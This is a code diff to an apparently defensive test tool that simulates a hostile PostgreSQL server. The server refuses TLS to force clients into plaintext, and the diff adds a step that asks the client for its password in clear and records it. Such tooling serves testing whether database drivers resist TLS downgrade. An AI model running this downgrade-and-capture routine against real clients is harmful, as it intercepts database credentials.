@@ -1,14 +1,16 @@
-"""A PostgreSQL server that, once it has turned, says that it cannot do TLS.
+"""A PostgreSQL server that, once it has turned, says that it cannot do TLS, and wants the password in clear.
 
 Whoever sits between client and server can answer the SSLRequest with ``N``; a client that only prefers TLS goes on in
-plaintext. It also hands out as many rows as it is told to: a bulk read through an ordinary statement.
+plaintext and says its password. It also hands out as many rows as it is told to: a bulk read through an ordinary
+statement.
 """
 
 import struct
 
-from backwatch.attack.servers import HostileServer, Session
+from backwatch.attack.servers import MOST_KEPT, HostileServer, Session
 
 _SSL_REQUEST, _GSS_REQUEST, _CANCEL = 80877103, 80877104, 80877102
+_PASSWORD_IN_CLEAR = 3
 _TEXT_OID = 25
 
 
@@ -16,7 +18,7 @@ class PostgreSQL(HostileServer):
     """Customers are read from it; then it has no TLS any more."""
 
     name = "postgresql"
-    attack = "refuses TLS to a client that has always had it"
+    attack = "refuses TLS to a client that has always had it, and asks for its password"
     reference = "https://www.postgresql.org/docs/current/libpq-ssl.html"
     driver = "psycopg"
     rule = "tls-stripped"
@@ -28,6 +30,11 @@ class PostgreSQL(HostileServer):
         """TLS, login of anybody, then statements in both protocols."""
         if not self._start(session):
             return
+        if self.hostile:
+            _send(session, b"R", struct.pack("!I", _PASSWORD_IN_CLEAR))
+            session.read(1)
+            (length,) = struct.unpack("!I", session.read(4))
+            self.taken(session.read(length - 4).rstrip(b"\0"))
         _send(session, b"R", struct.pack("!I", 0))
         for name, value in (
             ("server_version", "15.10"),
@@ -85,6 +92,8 @@ class _Conversation:
     def _extended(self, kind: bytes, body: bytes) -> None:
         if kind == b"P":
             name, statement, _ = body.split(b"\0", 2)
+            if len(self._prepared) >= MOST_KEPT:
+                self._prepared.clear()
             self._prepared[name] = statement
             _send(self._session, b"1")
         elif kind == b"B":
